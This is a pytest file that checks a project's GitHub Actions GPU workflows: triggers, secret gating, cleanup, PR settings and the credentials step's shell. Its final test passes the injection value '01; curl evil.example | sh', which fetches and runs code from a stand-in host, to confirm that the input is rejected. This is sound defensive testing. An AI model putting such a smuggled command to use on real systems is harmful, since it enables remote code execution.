"""GPU CI's workflows: gpu.yml (Kaggle) and ci.yml's self-hosted job, read as GitHub reads them.

No actionlint here (no network for its binary): `check-jsonschema --builtin-schema vendor.github-workflows` passed on
them when they were written; these tests pin the job graph and run the credentials step's own shell."""

import os
import subprocess

import yaml
from paths import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"


def workflow(name: str) -> dict:
    data = yaml.safe_load((WORKFLOWS / name).read_text())
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads the key `on` as True
    return data


def step(job: dict, predicate) -> dict:
    found = [s for s in job["steps"] if predicate(s)]
    assert len(found) == 1, found
    return found[0]


def test_gpu_workflow_triggers_and_never_overlaps():
    gpu = workflow("gpu.yml")
    assert set(gpu["on"]) == {"workflow_dispatch", "schedule", "push"}
    assert gpu["on"]["push"]["branches"] == ["main"]
    paths = gpu["on"]["push"]["paths"]
    assert {"notebooks/**", "colab_gpu/**", "requirements.txt"} <= set(paths)
    # Merging the workflow's own pull request (references.json, reports/, the guide) must not start another run.
    assert paths.index("!colab_gpu/references.json") > paths.index("colab_gpu/**")
    assert not any(p.startswith(("reports", "docs")) for p in paths)
    assert len(gpu["on"]["schedule"]) == 1 and len(gpu["on"]["schedule"][0]["cron"].split()) == 5
    assert gpu["concurrency"] == {"group": "gpu-kaggle", "cancel-in-progress": False}


def test_gpu_job_graph_skips_without_a_secret_and_runs_gpu_kaggle_with_one():
    jobs = workflow("gpu.yml")["jobs"]
    assert set(jobs) == {"credentials", "kaggle"}
    kaggle = jobs["kaggle"]
    assert kaggle["needs"] == "credentials" and kaggle["if"] == "needs.credentials.outputs.present == 'true'"
    assert jobs["credentials"]["outputs"]["present"] == "${{ steps.check.outputs.present }}"
    assert kaggle["env"]["KAGGLE_API_TOKEN"] == "${{ secrets.KAGGLE_API_TOKEN }}"
    assert kaggle["timeout-minutes"] * 60 > int(kaggle["env"]["KAGGLE_DEADLINE_S"])  # ours stops first, and deletes
    run = step(kaggle, lambda s: "make gpu-kaggle" in s.get("run", ""))
    assert "${{" not in run["run"]  # the dispatch input reaches the shell through env, never spliced into it
    names = [s.get("uses", s.get("run", "")).split("@")[0] for s in kaggle["steps"]]
    assert names.index("actions/upload-artifact") > names.index(run["run"])
    upload = step(kaggle, lambda s: s.get("uses", "").startswith("actions/upload-artifact"))
    assert upload["if"] == "always()" and upload["with"]["path"] == "build/gpu-kaggle/"
    pr = step(kaggle, lambda s: s.get("uses", "").startswith("peter-evans/create-pull-request"))
    assert pr["if"] == "success() && github.ref == 'refs/heads/main' && env.LESSONS == ''"  # a part-run: no PR
    cleanup = step(kaggle, lambda s: "kaggle kernels delete" in s.get("run", ""))
    assert cleanup["if"] == "cancelled()" and "build/gpu-kaggle/kernel-id.txt" in cleanup["run"]
    install = step(kaggle, lambda s: "pip install" in s.get("run", ""))
    assert install["run"] == 'python -m pip install "kaggle==2.2.5" six'  # 2.2.5 imports six without declaring it
    assert set(pr["with"]["add-paths"].split()) == {
        "reports/gpu/",
        "colab_gpu/references.json",
        "docs/instructor_guide.md",
    }
    assert kaggle["permissions"] == {"contents": "write", "pull-requests": "write"}


def credentials_step(tmp_path, **secrets):
    script = workflow("gpu.yml")["jobs"]["credentials"]["steps"][0]["run"]
    output = tmp_path / "github_output"
    output.write_text("")
    env = {k: v for k, v in os.environ.items() if not k.startswith("KAGGLE_")}
    env.update({"GITHUB_OUTPUT": str(output), "KAGGLE_API_TOKEN": "", "KAGGLE_USERNAME": "", "KAGGLE_KEY": ""})
    env.update(secrets)  # a missing secret reaches the step as an empty string
    done = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return output.read_text().strip(), done.stdout.strip()


def test_credentials_step_says_skip_in_one_line_and_does_not_fail(tmp_path):
    assert credentials_step(tmp_path, KAGGLE_API_TOKEN="t")[0] == "present=true"
    assert credentials_step(tmp_path, KAGGLE_USERNAME="u", KAGGLE_KEY="k")[0] == "present=true"
    present, said = credentials_step(tmp_path, KAGGLE_USERNAME="u")  # a username without its key is no credential
    assert present == "present=false"
    assert len(said.splitlines()) == 1 and said.startswith("::notice::") and "GPU CI skipped" in said


def test_self_hosted_job_runs_only_where_a_runner_is_declared_and_imports_its_run():
    gpu = workflow("ci.yml")["jobs"]["gpu"]
    assert gpu["if"] == "vars.GPU_RUNNER == 'true'" and gpu["runs-on"] == ["self-hosted", "gpu"]
    assert gpu["env"]["REQUIRE_CUDA"] == "1"
    runs = [s["run"] for s in gpu["steps"] if "run" in s]
    assert runs == ['make gpu-suite GPU_SUITE_ARGS="--out build/gpu-run"', "make import-gpu-run RUN=build/gpu-run"]


def test_the_lessons_input_reaches_make_as_numbers_only(tmp_path):
    """The dispatch input goes through the step's own shell; a fake `make` on PATH shows what it was given."""
    script = step(workflow("gpu.yml")["jobs"]["kaggle"], lambda s: "make gpu-kaggle" in s.get("run", ""))["run"]
    (tmp_path / "make").write_text('#!/bin/sh\nprintf "%s\\n" "$@" > "$(dirname "$0")/args"\n')
    (tmp_path / "make").chmod(0o755)

    def dispatch(lessons):
        (tmp_path / "args").unlink(missing_ok=True)
        env = dict(os.environ, LESSONS=lessons, PATH=f"{tmp_path}{os.pathsep}{os.environ['PATH']}")
        done = subprocess.run(["bash", "-e", "-c", script], env=env, capture_output=True, text=True)
        args = (tmp_path / "args").read_text().splitlines() if (tmp_path / "args").exists() else None
        return done.returncode, args, done.stdout

    assert dispatch("01 08")[:2] == (0, ["gpu-kaggle", "GPU_KAGGLE_ARGS=--lessons 01 08"])
    assert dispatch("")[:2] == (0, ["gpu-kaggle", "GPU_KAGGLE_ARGS="])
    code, args, said = dispatch("01; curl evil.example | sh")
    assert code == 1 and args is None and said.startswith("::error::")
